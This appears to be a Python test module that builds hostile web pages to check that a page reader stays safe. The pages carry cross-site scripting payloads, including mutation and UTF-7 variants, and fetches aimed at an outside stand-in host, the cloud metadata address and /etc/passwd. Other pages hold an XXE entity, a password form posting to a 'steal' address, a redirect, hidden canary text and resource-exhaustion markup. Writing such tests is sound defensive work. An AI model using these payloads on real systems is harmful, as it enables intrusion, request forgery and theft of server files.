"""Web pages that run, fetch, nest or swell."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from typing import Unpack

from eval.hostile.case import ANY, CANARY, EITHER, OUTSIDE, PHRASE, PROSE, READ, UNREAD, Case, Expected, Made, Status

_OPEN = "<!DOCTYPE html><html><head><title>Carers</title></head><body>"
_RUNS = "alert(document.domain)"


def _page(body: str, *, head: str = "") -> bytes:
    return f"<!DOCTYPE html><html><head>{head}</head><body><p>{PROSE}</p>{body}</body></html>".encode()


def _long_tag() -> Iterator[bytes]:
    yield _OPEN.encode() + b'<p title="'
    for _ in range(50):
        yield b"x" * 1_000_000
    yield b'">' + PROSE.encode() + b"</p>"


def _case(
    name: str, made: Callable[[], Made], allowed: frozenset[Status], why: str, path: str = "", **more: Unpack[Expected]
) -> Case:
    return Case(
        name=f"web-{name}",
        group="web",
        path=path or f"{name}.html",
        made=made,
        allowed=allowed,
        why=why,
        **more,
    )


def _active(name: str, body: str, why: str, *, head: str = "") -> Case:
    return _case(name, lambda: _page(body, head=head), READ, why, must=(PHRASE,), never=(_RUNS,))


CASES = (
    _active("script", f"<script>{_RUNS}</script><img src=x onerror='{_RUNS}'>", "It runs where it is shown."),
    _active("svg", f"<svg onload='{_RUNS}'><script>{_RUNS}</script></svg>", "A drawing that runs."),
    _active(
        "mutation",
        f'<noscript><p title="</noscript><img src=x onerror={_RUNS}>">'
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={_RUNS}&gt;'>",
        "Markup that changes its meaning when it is written out and read again.",
    ),
    _active(
        "fetching",
        f"<img src='{OUTSIDE}/i.png'><iframe src='{OUTSIDE}/f'></iframe><object data='{OUTSIDE}/o'></object>"
        f"<video src='{OUTSIDE}/v'></video><img src='file:///etc/passwd'>"
        "<img src='http://169.254.169.254/latest/meta-data/'>",
        "Pictures that make the server fetch addresses of its own network.",
        head=f"<link rel=stylesheet href='{OUTSIDE}/s.css'><base href='{OUTSIDE}/'>"
        f"<style>@import '{OUTSIDE}/t.css';</style>",
    ),
    _active(
        "refresh",
        "",
        "It leads elsewhere after a moment.",
        head=f"<meta http-equiv=refresh content='0;url={OUTSIDE}/r'>",
    ),
    _active("form", f"<form action='{OUTSIDE}/steal'><input name=password></form>", "It asks for a password."),
    _active(
        "links",
        f"<a href='javascript:{_RUNS}'>more</a><a href='data:text/html,<script>{_RUNS}</script>'>x</a>",
        "Links that run.",
    ),
    _case(
        "deep-100k",
        lambda: (_OPEN + "<div>" * 100_000 + PROSE).encode(),
        EITHER,
        "100,000 elements inside one another.",
        quick=False,
    ),
    _case("deep-tables", lambda: _page("<table><tr><td>" * 3000), EITHER, "Tables 3,000 deep."),
    _case("inline-100k", lambda: _page("<b><i>" * 50_000), EITHER, "50,000 open letters of emphasis.", quick=False),
    _case("tag-50mb", _long_tag, EITHER, "One tag of 50 MB.", quick=False),
    _case(
        "attributes-200k",
        lambda: _page("<p " + " ".join(f"a{at}=1" for at in range(200_000)) + ">x</p>"),
        EITHER,
        "200,000 attributes.",
        quick=False,
    ),
    _case("entities", lambda: _page("&amp;" * 1_000_000), EITHER, "A million entities.", quick=False),
    _case(
        "bad-entities",
        lambda: _page("&#x110000; &#0; &#xd800; &#99999999999;"),
        READ,
        "Letters that do not exist.",
        must=(PHRASE,),
    ),
    _case(
        "colspan",
        lambda: _page("<table><tr><td colspan=999999999 rowspan=999999999>x</td></tr></table>"),
        READ,
        "A cell a billion wide.",
        must=(PHRASE,),
    ),
    _case("list-100k", lambda: _page("<li>x" * 100_000), EITHER, "100,000 points of a list.", quick=False),
    _case("unclosed", lambda: f"<html><body><p>{PROSE}<!-- ".encode(), EITHER, "A comment that never ends."),
    _case(
        "hidden-style",
        lambda: _page(f"<p style='display:none'>{CANARY}</p>"),
        READ,
        "Words that no reader sees.",
        never=(CANARY,),
        flags=("hidden-text",),
    ),
    _case(
        "hidden-in-sheet",
        lambda: _page(f"<p class=h>{CANARY}</p>", head="<style>.h{display:none}</style>"),
        READ,
        "The same by a style sheet: not looked through here, so it is only required that the rest is read.",
        must=(PHRASE,),
    ),
    _case(
        "frames",
        lambda: f"<html><frameset><frame src='{OUTSIDE}/a'></frameset></html>".encode(),
        UNREAD | ANY,
        "Frames without words.",
    ),
    _case(
        "xhtml-xxe",
        lambda: (
            b'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
            b"<html><body><p>" + PROSE.encode() + b" &a;</p></body></html>"
        ),
        EITHER,
        "An entity in a page that reads the server's files.",
        "page.xhtml",
        never=("root:x:0",),
    ),
    _case(
        "svg-file",
        lambda: f"<svg xmlns='http://www.w3.org/2000/svg'><script>{_RUNS}</script><text>{CANARY}</text></svg>".encode(),
        UNREAD,
        "A drawing that runs.",
        "chart.svg",
        never=(_RUNS,),
    ),
    _case(
        "svg-as-html",
        lambda: f"<svg xmlns='http://www.w3.org/2000/svg'><script>{_RUNS}</script></svg>".encode(),
        UNREAD | ANY,
        "The same under another name.",
        "chart.html",
        never=(_RUNS,),
    ),
    _case(
        "mhtml",
        lambda: (
            "From: <Saved>\r\nSubject: Carers\r\nMIME-Version: 1.0\r\n"
            'Content-Type: multipart/related; boundary="q"\r\n\r\n--q\r\nContent-Type: text/html\r\n'
            f"Content-Location: {OUTSIDE}/page\r\n\r\n<p>{PROSE}</p>\r\n--q--\r\n"
        ).encode(),
        EITHER,
        "A page saved as a message.",
        "page.mht",
    ),
    _case(
        "utf7",
        lambda: b"<html><meta charset=utf-7><body>+ADw-script+AD4-alert(1)+ADw-/script+AD4- " + PROSE.encode(),
        EITHER,
        "An encoding that hides markup.",
        never=("<script>alert(1)",),
    ),
)
